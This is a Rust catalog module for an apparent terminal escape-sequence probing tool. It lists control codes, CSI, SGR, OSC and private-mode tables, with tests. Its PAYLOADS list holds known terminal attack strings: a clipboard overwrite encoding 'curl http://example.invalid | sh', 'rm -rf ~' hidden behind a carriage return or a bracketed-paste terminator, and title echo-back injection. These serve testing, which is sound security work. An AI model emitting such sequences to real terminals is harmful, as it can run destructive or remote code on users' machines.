// vtprobe-core/src/catalog.rs
//! The sequence catalog: the fixed vocabulary the generator sweeps over.
//!
//! Everything here is plain data. [`Catalog::standard`] builds the built-in
//! tables once; the value is then passed by reference to the generator, so
//! there is no shared mutable table and no initialization order to get wrong.
//! Tests build reduced catalogs by filling the public fields directly.
//!
//! License: MIT OR APACHE 2.0

use log::debug;
use serde::Serialize;

/// Palette indices used by the 256-colour SGR sweep: every tenth entry.
pub const PALETTE_STEP: usize = 10;

/// A C0 control code (or DEL).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ControlChar {
    pub code: u8,
    pub name: &'static str,
}

/// A CSI command identified by its final byte.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CsiCommand {
    pub final_byte: char,
    pub name: &'static str,
    /// `h` (set mode) and `l` (reset mode) also get swept against every DEC
    /// private mode.
    pub mode_setting: bool,
}

/// An SGR parameter string, emitted as `CSI <code> m`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SgrParam {
    pub code: &'static str,
    pub name: &'static str,
}

/// An OSC command number.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OscCommand {
    pub number: u32,
    pub name: &'static str,
}

/// A DEC private mode number, emitted as `CSI ? <mode> h|l`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PrivateMode {
    pub number: u32,
    pub name: &'static str,
}

/// A previously documented attack payload, emitted verbatim.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KnownPayload {
    pub name: String,
    pub bytes: String,
}

/// Entry counts per catalog table.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct CatalogSizes {
    pub control_chars: usize,
    pub csi_commands: usize,
    pub sgr_params: usize,
    pub osc_commands: usize,
    pub private_modes: usize,
    pub malicious_payloads: usize,
    pub palette_entries: usize,
}

/// The complete, immutable vocabulary for one probe run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Catalog {
    pub control_chars: Vec<ControlChar>,
    pub csi_commands: Vec<CsiCommand>,
    pub sgr_params: Vec<SgrParam>,
    pub osc_commands: Vec<OscCommand>,
    pub private_modes: Vec<PrivateMode>,
    pub payloads: Vec<KnownPayload>,
    /// 256-colour palette indices for the SGR foreground/background sweep.
    pub palette: Vec<u8>,
}

const CONTROL_CHARS: &[ControlChar] = &[
    ControlChar { code: 0x00, name: "NUL" },
    ControlChar { code: 0x01, name: "SOH" },
    ControlChar { code: 0x02, name: "STX" },
    ControlChar { code: 0x03, name: "ETX" },
    ControlChar { code: 0x04, name: "EOT" },
    ControlChar { code: 0x05, name: "ENQ" },
    ControlChar { code: 0x06, name: "ACK" },
    ControlChar { code: 0x07, name: "BEL" },
    ControlChar { code: 0x08, name: "BS" },
    ControlChar { code: 0x09, name: "HT" },
    ControlChar { code: 0x0a, name: "LF" },
    ControlChar { code: 0x0b, name: "VT" },
    ControlChar { code: 0x0c, name: "FF" },
    ControlChar { code: 0x0d, name: "CR" },
    ControlChar { code: 0x0e, name: "SO" },
    ControlChar { code: 0x0f, name: "SI" },
    ControlChar { code: 0x10, name: "DLE" },
    ControlChar { code: 0x11, name: "DC1" },
    ControlChar { code: 0x12, name: "DC2" },
    ControlChar { code: 0x13, name: "DC3" },
    ControlChar { code: 0x14, name: "DC4" },
    ControlChar { code: 0x15, name: "NAK" },
    ControlChar { code: 0x16, name: "SYN" },
    ControlChar { code: 0x17, name: "ETB" },
    ControlChar { code: 0x18, name: "CAN" },
    ControlChar { code: 0x19, name: "EM" },
    ControlChar { code: 0x1a, name: "SUB" },
    ControlChar { code: 0x1b, name: "ESC" },
    ControlChar { code: 0x1c, name: "FS" },
    ControlChar { code: 0x1d, name: "GS" },
    ControlChar { code: 0x1e, name: "RS" },
    ControlChar { code: 0x1f, name: "US" },
    ControlChar { code: 0x7f, name: "DEL" },
];

const CSI_COMMANDS: &[CsiCommand] = &[
    CsiCommand { final_byte: '@', name: "ICH insert characters", mode_setting: false },
    CsiCommand { final_byte: 'A', name: "CUU cursor up", mode_setting: false },
    CsiCommand { final_byte: 'B', name: "CUD cursor down", mode_setting: false },
    CsiCommand { final_byte: 'C', name: "CUF cursor forward", mode_setting: false },
    CsiCommand { final_byte: 'D', name: "CUB cursor back", mode_setting: false },
    CsiCommand { final_byte: 'E', name: "CNL cursor next line", mode_setting: false },
    CsiCommand { final_byte: 'F', name: "CPL cursor previous line", mode_setting: false },
    CsiCommand { final_byte: 'G', name: "CHA cursor horizontal absolute", mode_setting: false },
    CsiCommand { final_byte: 'H', name: "CUP cursor position", mode_setting: false },
    CsiCommand { final_byte: 'J', name: "ED erase in display", mode_setting: false },
    CsiCommand { final_byte: 'K', name: "EL erase in line", mode_setting: false },
    CsiCommand { final_byte: 'L', name: "IL insert lines", mode_setting: false },
    CsiCommand { final_byte: 'M', name: "DL delete lines", mode_setting: false },
    CsiCommand { final_byte: 'P', name: "DCH delete characters", mode_setting: false },
    CsiCommand { final_byte: 'S', name: "SU scroll up", mode_setting: false },
    CsiCommand { final_byte: 'T', name: "SD scroll down", mode_setting: false },
    CsiCommand { final_byte: 'X', name: "ECH erase characters", mode_setting: false },
    CsiCommand { final_byte: 'b', name: "REP repeat preceding character", mode_setting: false },
    CsiCommand { final_byte: 'c', name: "DA device attributes", mode_setting: false },
    CsiCommand { final_byte: 'd', name: "VPA line position absolute", mode_setting: false },
    CsiCommand { final_byte: 'f', name: "HVP horizontal vertical position", mode_setting: false },
    CsiCommand { final_byte: 'g', name: "TBC tab clear", mode_setting: false },
    CsiCommand { final_byte: 'h', name: "SM set mode", mode_setting: true },
    CsiCommand { final_byte: 'l', name: "RM reset mode", mode_setting: true },
    CsiCommand { final_byte: 'm', name: "SGR select graphic rendition", mode_setting: false },
    CsiCommand { final_byte: 'n', name: "DSR device status report", mode_setting: false },
    CsiCommand { final_byte: 'r', name: "DECSTBM set scrolling region", mode_setting: false },
    CsiCommand { final_byte: 's', name: "SCOSC save cursor", mode_setting: false },
    CsiCommand { final_byte: 't', name: "XTWINOPS window manipulation", mode_setting: false },
    CsiCommand { final_byte: 'u', name: "SCORC restore cursor", mode_setting: false },
];

/// The invisible-text pattern: 256-colour white foreground on the default
/// background, unreadable on light-themed terminals.
pub const INVISIBLE_TEXT_SGR: &str = "38;5;231;49";

const SGR_PARAMS: &[SgrParam] = &[
    SgrParam { code: "0", name: "reset" },
    SgrParam { code: "1", name: "bold" },
    SgrParam { code: "2", name: "faint" },
    SgrParam { code: "3", name: "italic" },
    SgrParam { code: "4", name: "underline" },
    SgrParam { code: "5", name: "slow blink" },
    SgrParam { code: "6", name: "rapid blink" },
    SgrParam { code: "7", name: "reverse video" },
    SgrParam { code: "8", name: "conceal" },
    SgrParam { code: "9", name: "crossed out" },
    SgrParam { code: "21", name: "double underline" },
    SgrParam { code: "22", name: "normal intensity" },
    SgrParam { code: "23", name: "not italic" },
    SgrParam { code: "24", name: "not underlined" },
    SgrParam { code: "25", name: "not blinking" },
    SgrParam { code: "27", name: "not reversed" },
    SgrParam { code: "28", name: "reveal" },
    SgrParam { code: "29", name: "not crossed out" },
    SgrParam { code: "30", name: "black foreground" },
    SgrParam { code: "31", name: "red foreground" },
    SgrParam { code: "32", name: "green foreground" },
    SgrParam { code: "33", name: "yellow foreground" },
    SgrParam { code: "34", name: "blue foreground" },
    SgrParam { code: "35", name: "magenta foreground" },
    SgrParam { code: "36", name: "cyan foreground" },
    SgrParam { code: "37", name: "white foreground" },
    SgrParam { code: "39", name: "default foreground" },
    SgrParam { code: "40", name: "black background" },
    SgrParam { code: "41", name: "red background" },
    SgrParam { code: "42", name: "green background" },
    SgrParam { code: "43", name: "yellow background" },
    SgrParam { code: "44", name: "blue background" },
    SgrParam { code: "45", name: "magenta background" },
    SgrParam { code: "46", name: "cyan background" },
    SgrParam { code: "47", name: "white background" },
    SgrParam { code: "49", name: "default background" },
    SgrParam { code: "53", name: "overlined" },
    SgrParam { code: "90", name: "bright black foreground" },
    SgrParam { code: "97", name: "bright white foreground" },
    SgrParam { code: "100", name: "bright black background" },
    SgrParam { code: "107", name: "bright white background" },
    SgrParam { code: INVISIBLE_TEXT_SGR, name: "white-on-default invisible text" },
];

const OSC_COMMANDS: &[OscCommand] = &[
    OscCommand { number: 0, name: "set icon name and window title" },
    OscCommand { number: 1, name: "set icon name" },
    OscCommand { number: 2, name: "set window title" },
    OscCommand { number: 4, name: "change colour palette" },
    OscCommand { number: 7, name: "report working directory" },
    OscCommand { number: 8, name: "hyperlink" },
    OscCommand { number: 9, name: "desktop notification (iTerm2)" },
    OscCommand { number: 10, name: "set foreground colour" },
    OscCommand { number: 11, name: "set background colour" },
    OscCommand { number: 12, name: "set cursor colour" },
    OscCommand { number: 50, name: "set font" },
    OscCommand { number: 52, name: "clipboard access" },
    OscCommand { number: 104, name: "reset colour palette" },
    OscCommand { number: 133, name: "shell integration marks" },
    OscCommand { number: 777, name: "desktop notification (urxvt)" },
    OscCommand { number: 1337, name: "iTerm2 proprietary command" },
    OscCommand { number: 5113, name: "file transfer (kitty)" },
];

const PRIVATE_MODES: &[PrivateMode] = &[
    PrivateMode { number: 1, name: "application cursor keys" },
    PrivateMode { number: 3, name: "132 column mode" },
    PrivateMode { number: 5, name: "reverse video" },
    PrivateMode { number: 6, name: "origin mode" },
    PrivateMode { number: 7, name: "auto-wrap" },
    PrivateMode { number: 9, name: "X10 mouse reporting" },
    PrivateMode { number: 12, name: "cursor blink" },
    PrivateMode { number: 25, name: "cursor visible" },
    PrivateMode { number: 47, name: "alternate screen (legacy)" },
    PrivateMode { number: 1000, name: "mouse click reporting" },
    PrivateMode { number: 1002, name: "mouse drag reporting" },
    PrivateMode { number: 1003, name: "mouse motion reporting" },
    PrivateMode { number: 1004, name: "focus reporting" },
    PrivateMode { number: 1006, name: "SGR mouse encoding" },
    PrivateMode { number: 1047, name: "alternate screen buffer" },
    PrivateMode { number: 1048, name: "save cursor" },
    PrivateMode { number: 1049, name: "alternate screen buffer with cursor save" },
    PrivateMode { number: 2004, name: "bracketed paste" },
    PrivateMode { number: 2026, name: "synchronized output" },
];

const PAYLOADS: &[(&str, &str)] = &[
    ("title set then title report (command injection via echo-back)", "\x1b]2;;touch /tmp/vtprobe\x07\x1b[21t"),
    ("clipboard overwrite with shell command", "\x1b]52;c;Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkIHwgc2g=\x07"),
    ("clipboard read request", "\x1b]52;c;?\x07"),
    ("DECRQSS response injection", "\x1bP$q\x1b[31m\x1b\\"),
    ("window title with embedded escape", "\x1b]0;Title\x1b[31mRed\x07"),
    ("font change request", "\x1b]50;?\x07"),
    ("hidden command behind carriage return", "echo harmless\r\x1b[2Krm -rf ~\n"),
    ("cursor hiding then overwrite", "\x1b[?25l\x1b[1A\x1b[2Ksafe output\x1b[?25h"),
    ("device attributes query flood", "\x1b[c\x1b[c\x1b[c\x1b[c\x1b[c\x1b[c\x1b[c\x1b[c"),
    ("screen dump request", "\x1b[i"),
    ("window resize to extreme dimensions", "\x1b[8;9999;9999t"),
    ("bracketed paste terminator injection", "\x1b[201~rm -rf ~\n"),
];

impl Catalog {
    /// The built-in catalog.
    pub fn standard() -> Self {
        let catalog = Self {
            control_chars: CONTROL_CHARS.to_vec(),
            csi_commands: CSI_COMMANDS.to_vec(),
            sgr_params: SGR_PARAMS.to_vec(),
            osc_commands: OSC_COMMANDS.to_vec(),
            private_modes: PRIVATE_MODES.to_vec(),
            payloads: PAYLOADS
                .iter()
                .map(|(name, bytes)| KnownPayload {
                    name: (*name).to_string(),
                    bytes: (*bytes).to_string(),
                })
                .collect(),
            palette: (0..=255u8).step_by(PALETTE_STEP).collect(),
        };
        debug!("Built standard catalog: {:?}", catalog.sizes());
        catalog
    }

    /// Returns the catalog with user-supplied payloads appended after the
    /// curated ones. Their payload indices continue the catalog numbering.
    pub fn with_extra_payloads(mut self, extra: &[String]) -> Self {
        let start = self.payloads.len();
        for (offset, bytes) in extra.iter().enumerate() {
            self.payloads.push(KnownPayload {
                name: format!("user payload {}", start + offset),
                bytes: bytes.clone(),
            });
        }
        if !extra.is_empty() {
            debug!("Appended {} user payloads to the catalog.", extra.len());
        }
        self
    }

    pub fn sizes(&self) -> CatalogSizes {
        CatalogSizes {
            control_chars: self.control_chars.len(),
            csi_commands: self.csi_commands.len(),
            sgr_params: self.sgr_params.len(),
            osc_commands: self.osc_commands.len(),
            private_modes: self.private_modes.len(),
            malicious_payloads: self.payloads.len(),
            palette_entries: self.palette.len(),
        }
    }

    /// Number of mode-setting CSI commands (those swept against private modes).
    pub fn mode_setting_commands(&self) -> usize {
        self.csi_commands.iter().filter(|c| c.mode_setting).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standard_catalog_has_33_control_chars() {
        let catalog = Catalog::standard();
        assert_eq!(catalog.control_chars.len(), 33);
        assert!(catalog.control_chars.iter().any(|c| c.code == 0x07));
        assert!(catalog.control_chars.iter().any(|c| c.code == 0x1b));
        assert!(catalog.control_chars.iter().any(|c| c.code == 0x7f));
    }

    #[test]
    fn palette_is_every_tenth_index() {
        let catalog = Catalog::standard();
        assert_eq!(catalog.palette.first(), Some(&0));
        assert_eq!(catalog.palette.last(), Some(&250));
        assert_eq!(catalog.palette.len(), 26);
    }

    #[test]
    fn standard_catalog_covers_hazard_triggers() {
        let catalog = Catalog::standard();
        for n in [8, 52, 777, 1337, 5113] {
            assert!(catalog.osc_commands.iter().any(|o| o.number == n), "missing OSC {}", n);
        }
        for n in [1047, 1049] {
            assert!(catalog.private_modes.iter().any(|m| m.number == n), "missing mode {}", n);
        }
        assert!(catalog.sgr_params.iter().any(|p| p.code == INVISIBLE_TEXT_SGR));
        assert_eq!(catalog.mode_setting_commands(), 2);
    }

    #[test]
    fn extra_payloads_continue_numbering() {
        let catalog = Catalog::standard();
        let base = catalog.payloads.len();
        let extended = catalog.with_extra_payloads(&["\x1b]0;x\x07".to_string()]);
        assert_eq!(extended.payloads.len(), base + 1);
        assert_eq!(extended.payloads[base].name, format!("user payload {}", base));
    }
}
